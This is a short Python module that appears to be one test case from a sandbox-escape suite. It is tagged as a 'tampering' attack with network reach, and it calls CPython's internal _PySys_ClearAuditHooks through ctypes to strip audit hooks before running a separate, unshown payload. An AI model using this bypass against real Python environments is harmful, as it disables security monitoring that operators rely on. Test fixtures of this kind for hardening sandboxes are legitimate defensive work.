"""_PySys_ClearAuditHooks is reached for where ffi is restricted."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = ("baseline", "deny")

from . import payload


def attack():
    import _imp
    if not _imp.has_policy():
        return payload.act()
    import ctypes
    ctypes.pythonapi._PySys_ClearAuditHooks(None)
    payload.act()
